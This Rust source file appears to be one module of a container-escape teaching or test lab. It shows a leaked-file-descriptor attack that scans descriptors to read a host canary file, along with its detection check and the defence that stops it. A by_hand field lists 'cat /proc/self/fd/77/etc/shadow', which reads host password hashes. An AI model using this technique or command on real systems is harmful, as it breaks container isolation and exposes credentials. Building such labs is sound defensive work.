//! leaked-descriptor: use a directory that the caller left open.

use super::{Attack, Attempt, Measured, Need};
use crate::inside::canary::canary;
use crate::{Host, Inside, Seen};
use nix::errno::Errno;
use nix::libc;
use std::os::fd::BorrowedFd;

/// The numbers that are tried. Each try is followed by the host, so not all that are possible.
const NUMBERS: std::ops::Range<i32> = 3..128;

/// The attempt.
pub const ATTEMPT: Attempt = Attempt {
    id: "leaked-descriptor",
    stake: "The host's whole file tree, for one descriptor that nobody closed.",
    story: "A descriptor goes with the process, through fork, chroot, pivot_root and execve. The \
            host leaves its root directory open on descriptor 77, as a careless caller might, and \
            the attacker tries each number as a directory to open the canary from. No mount and no \
            root directory stands in the way of openat(2): the container must close what it did not \
            open.",
    by_hand: &["ls -l /proc/self/fd", "cat /proc/self/fd/77/etc/shadow"],
    stopped_by: &["lab3-pivot/close-descriptors"],
    after: &[],
    man: &["openat(2)", "close_range(2)"],
    letters: Measured { root: "E EEEBBBB", user: "E EEEBBBB", rootless: "E EEEBBBB" },
    needs: &[Need::LeakedDescriptor],
    decisive: &[libc::SYS_openat, libc::SYS_pread64],
    attack: Attack::Inside(inside),
    witness,
};

fn inside(me: &mut Inside) -> Result<(), Errno> {
    me.decisive("openat(each descriptor from 3 up, \"canary\" and \"../../../../canary\")");
    let mut refused = Errno::EBADF;
    for number in NUMBERS {
        // SAFETY: a number that is no descriptor is refused; nothing is closed here.
        let descriptor = unsafe { BorrowedFd::borrow_raw(number) };
        match canary(descriptor, &["", "../../../../"]) {
            Ok(found) => {
                me.bring_out(&found);
                return Ok(());
            }
            Err(errno) => refused = errno,
        }
    }
    Err(refused)
}

fn witness(host: &Host) -> Seen {
    if host.heard_secret("canary") {
        return Seen::Effect(
            "the attacker has read a file of the host through a descriptor left open".into(),
        );
    }
    Seen::Nothing
}
